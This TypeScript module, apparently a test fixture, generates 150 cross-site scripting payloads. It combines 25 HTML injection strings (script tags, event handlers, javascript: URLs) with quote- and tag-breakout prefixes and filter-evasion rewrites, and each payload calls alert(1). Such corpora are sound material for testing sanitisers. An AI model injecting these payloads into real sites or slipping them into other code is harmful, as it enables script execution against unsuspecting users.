/** Texts that run where one place forgets that they are text; each calls `alert`. */
const RUNS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<body onload=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<math href=javascript:alert(1)>x</math>",
  "<style onload=alert(1)></style>",
  "<link rel=stylesheet href=x onerror=alert(1)>",
  "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
  "<form action=javascript:alert(1)><button autofocus onfocus=alert(1)>x</button></form>",
  "<p style=animation-name:x onanimationstart=alert(1)>x</p>",
  "<textarea autofocus onfocus=alert(1)></textarea>",
  "<keygen autofocus onfocus=alert(1)>",
  "<isindex type=image src=x onerror=alert(1)>",
];

/** What may stand before them to get out of where they were put. */
const WAYS_OUT: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `</script></style></textarea></title></select>${text}`,
  (text) => `--> ]]> ${text.replaceAll("<s", "<S").replaceAll("alert", "al\u0065rt")}`,
  (text) => `${text.replaceAll(">", " ")}//`,
];

/** 150 of them. */
export const HOSTILE_TEXTS = RUNS.flatMap((text) => WAYS_OUT.map((way) => way(text)));
